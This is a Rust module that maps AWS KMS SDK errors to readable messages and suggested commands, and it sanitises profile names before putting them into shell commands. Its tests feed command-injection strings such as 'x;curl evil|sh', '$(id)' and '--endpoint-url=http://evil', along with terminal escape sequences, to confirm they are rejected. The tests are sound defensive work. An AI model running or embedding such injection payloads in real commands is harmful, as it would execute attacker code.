//! What went wrong with a request to KMS, and what can be done about it.
//!
//! Errors of the SDK are trees that name all they know. People are told one line: what AWS said, or what the
//! innermost cause is.

use std::error::Error;

use aws_sdk_kms::error::{ProvideErrorMetadata, SdkError};

use super::connections::Place;
use super::limit::TooLong;
use crate::keys::{Cause, KeyError, ServiceError, said};

/// What was asked, of which key and where.
#[derive(Clone, Debug)]
pub struct Asked {
    /// The action, as policies name it.
    pub action: &'static str,
    /// The key.
    pub arn: String,
    /// Where it was asked.
    pub place: Place,
}

impl Asked {
    /// Returns what a failure of the SDK means.
    pub fn failed<E>(&self, error: &SdkError<E>) -> ServiceError
    where
        E: ProvideErrorMetadata + Error + 'static,
    {
        let chain = chain(error);
        if chain.iter().any(|cause| cause.is::<TooLong>()) {
            return self.answer(&TooLong.to_string());
        }
        let texts: Vec<_> = chain.iter().map(ToString::to_string).collect();
        if let Some(at) = texts.iter().position(|text| CREDENTIALS.contains(&text.as_str())) {
            return self.without_credentials(&texts[at..]);
        }
        let last = texts.last().map(String::as_str).unwrap_or_default();
        match error {
            SdkError::ServiceError(context) => match context.err().code() {
                Some(code) => self.refused(code, context.err().message().unwrap_or_default()),
                None => self.answer(&format!("its status is {}", context.raw().status().as_u16())),
            },
            SdkError::TimeoutError(_) => self.timed_out("there was no answer in time"),
            SdkError::DispatchFailure(failure) if failure.is_timeout() => self.timed_out(last),
            SdkError::DispatchFailure(failure) if failure.is_io() => {
                let text = format!("{} cannot be reached: {}", self.server(), said(last));
                ServiceError::new(Cause::Unreachable, text).with_remedy(format!(
                    "check the network, the region in {}, and AWS_ENDPOINT_URL if it is set",
                    self.arn
                ))
            }
            SdkError::ResponseError(_) => self.answer(last),
            _ => ServiceError::new(Cause::Other, format!("{} was not asked: {}", self.server(), said(last))),
        }
    }

    /// Names the server in an error that does not: a request that took too long.
    pub fn named<T>(&self, answer: Result<T, KeyError>) -> Result<T, KeyError> {
        answer.map_err(|error| match error {
            KeyError::Service(error)
                if error.cause == Cause::Timeout && !error.detail.contains(&self.server()) =>
            {
                let detail = format!("{}: {}", self.server(), error.detail);
                ServiceError { detail, ..error }.into()
            }
            error => error,
        })
    }

    /// Returns the error for an answer without what was asked for.
    pub fn incomplete(&self) -> ServiceError {
        self.answer("what was asked for is not in it")
    }

    /// Returns what a code that AWS answers with means.
    fn refused(&self, code: &str, message: &str) -> ServiceError {
        let Self { action, arn, place } = self;
        let (server, region) = (self.server(), &place.region);
        match code {
            "AccessDenied" | "AccessDeniedException" | "NotAuthorized" | "UnauthorizedOperation" => {
                let why = if message.is_empty() { String::new() } else { format!(": {}", said(message)) };
                ServiceError::new(Cause::Denied, format!("{server} denies {action}{why}"))
                    .with_remedy(format!("allow {action} on {arn}, in the policy of the key or of who asks"))
            }
            code if EXPIRED.contains(&code) => self.expired(code),
            code if INVALID.contains(&code) => ServiceError::new(
                Cause::Credentials,
                format!("{server} does not take the credentials: {code}"),
            )
            .with_remedy(self.log_in()),
            "NotFoundException" => ServiceError::new(Cause::Key, format!("{server} does not know the key"))
                .with_remedy(format!("check the region and the account in {arn}")),
            "DisabledException" | "KMSInvalidStateException" | "KeyUnavailableException" => {
                let text = format!("the key cannot be used: {code}: {}", said(message));
                ServiceError::new(Cause::Key, text).with_remedy(format!(
                    "see its state: aws kms describe-key --region {region} --key-id {arn}"
                ))
            }
            "InvalidKeyUsageException" => ServiceError::new(
                Cause::Key,
                format!("the key is not one to encrypt with: {}", said(message)),
            ),
            "InvalidCiphertextException" | "IncorrectKeyException" => {
                let text = "what is wrapped was not wrapped with this key under this encryption context, or was changed";
                ServiceError::new(Cause::Ciphertext, format!("{text}: {code}"))
            }
            code if THROTTLED.contains(&code) => {
                ServiceError::new(Cause::Other, format!("{server} gets too many requests: {code}"))
                    .with_remedy("try again later")
            }
            _ => ServiceError::new(Cause::Other, format!("{server} answers {code}: {}", said(message))),
        }
    }

    /// Returns why there are no credentials. The texts are those of the causes, from the outermost on.
    fn without_credentials(&self, texts: &[String]) -> ServiceError {
        let has = |text: &str| texts.iter().any(|cause| cause.contains(text));
        let is_absent = texts.iter().any(|text| text == CREDENTIALS[0]) || has("IMDS");
        let why = texts.last().map(String::as_str).unwrap_or_default();
        if let Some(code) = EXPIRED.iter().find(|code| has(code)) {
            return self.expired(code);
        }
        if is_absent {
            let text = format!("there are no credentials of AWS: {}", attempts(why));
            return ServiceError::new(Cause::Credentials, text).with_remedy(self.log_in());
        }
        let (text, remedy) = match &self.place.role {
            Some(role) => (
                format!("the role {role} cannot be assumed: {}", said(why)),
                format!("allow sts:AssumeRole on {role}, in its trust policy and to who asks"),
            ),
            None => (
                format!("the credentials of AWS cannot be had: {}", said(why)),
                format!("see what `aws sts get-caller-identity{}` says", self.profile()),
            ),
        };
        ServiceError::new(Cause::Credentials, text).with_remedy(remedy)
    }

    fn expired(&self, code: &str) -> ServiceError {
        let text = format!("the credentials of AWS have expired: {code}");
        ServiceError::new(Cause::Credentials, text).with_remedy(self.log_in())
    }

    fn log_in(&self) -> String {
        match &self.place.profile {
            Some(_) => {
                format!(
                    "run `aws sso login{0}` or `aws configure{0}`, for the profile of the key",
                    self.profile()
                )
            }
            None => "run `aws sso login`, or set AWS_PROFILE, or AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY"
                .to_owned(),
        }
    }

    /// Returns the flag for the profile, unless a shell would take the name for something else: it comes from a file.
    fn profile(&self) -> String {
        let profile = self.place.profile.as_deref().filter(|profile| is_word(profile));
        profile.map(|profile| format!(" --profile {profile}")).unwrap_or_default()
    }

    fn timed_out(&self, why: &str) -> ServiceError {
        ServiceError::new(Cause::Timeout, format!("{}: {}", self.server(), said(why)))
    }

    fn answer(&self, why: &str) -> ServiceError {
        ServiceError::new(Cause::Answer, format!("the answer is not one of {}: {}", self.server(), said(why)))
    }

    fn server(&self) -> String {
        format!("AWS KMS in {}", self.place.region)
    }
}

/// Returns an error and its causes, outermost first.
fn chain<'a>(error: &'a (dyn Error + 'static)) -> Vec<&'a (dyn Error + 'static)> {
    let mut next = Some(error);
    std::iter::from_fn(|| {
        let error = next?;
        next = error.source();
        Some(error)
    })
    .collect()
}

/// Returns whether a shell takes a text for one word without a meaning of its own.
fn is_word(text: &str) -> bool {
    text.starts_with(|letter: char| letter.is_ascii_alphanumeric())
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/_+=,.@:-".contains(&byte))
}

/// Returns why there are no credentials, out of a list of what came of each source of them.
fn attempts(text: &str) -> String {
    if text.lines().count() < 2 {
        return said(text);
    }
    let profile = text.lines().find_map(|line| line.split_once("Profile: "));
    let why = profile.map_or("", |(_, why)| why.trim_start_matches(CREDENTIALS[0]).trim_start_matches(": "));
    match why {
        "" => "neither the environment, the AWS configuration nor this machine has any".to_owned(),
        why => said(why),
    }
}

/// What the SDK says if it does not come by credentials; first, what it says if there are none to come by.
const CREDENTIALS: [&str; 4] = [
    "the credential provider was not enabled",
    "the credentials provider was not properly configured",
    "an error occurred while loading credentials",
    "unexpected credentials error",
];

/// Codes of credentials that were good.
const EXPIRED: [&str; 4] =
    ["ExpiredToken", "ExpiredTokenException", "RequestExpired", "TokenRefreshRequired"];

/// Codes of credentials that are not good.
const INVALID: [&str; 9] = [
    "AuthFailure",
    "IncompleteSignature",
    "InvalidAccessKeyId",
    "InvalidClientTokenId",
    "InvalidSignatureException",
    "MissingAuthenticationToken",
    "MissingAuthenticationTokenException",
    "SignatureDoesNotMatch",
    "UnrecognizedClientException",
];

/// Codes of too many requests.
const THROTTLED: [&str; 4] =
    ["LimitExceededException", "RequestLimitExceeded", "Throttling", "ThrottlingException"];

#[cfg(test)]
mod tests {
    use super::*;

    fn asked(profile: &str) -> Asked {
        let place = Place { region: "eu-west-1".to_owned(), role: None, profile: Some(profile.to_owned()) };
        Asked { action: "kms:Decrypt", arn: "arn:aws:kms:eu-west-1:1:key/x".to_owned(), place }
    }

    #[test]
    fn commands_name_profiles_that_are_one_word() {
        let told = |profile: &str| asked(profile).expired("ExpiredToken").remedy.expect("a remedy");
        assert!(told("a-b.c").contains("`aws sso login --profile a-b.c`"), "{}", told("a-b.c"));
        for profile in
            ["x;curl evil|sh", "$(id)", "a b", "`id`", "x\n", "--endpoint-url=http://evil", "", "ä"]
        {
            let told = told(profile);
            assert!(told.contains("`aws sso login`") && told.contains("`aws configure`"), "{told}");
        }
    }

    #[test]
    fn what_servers_say_is_one_line_without_control_characters() {
        let error = asked("a").refused("AccessDenied", "a\u{1b}[31mb\n\u{202e}c");
        assert!(error.detail.ends_with("denies kms:Decrypt: a [31mb c"), "{error}");
    }
}
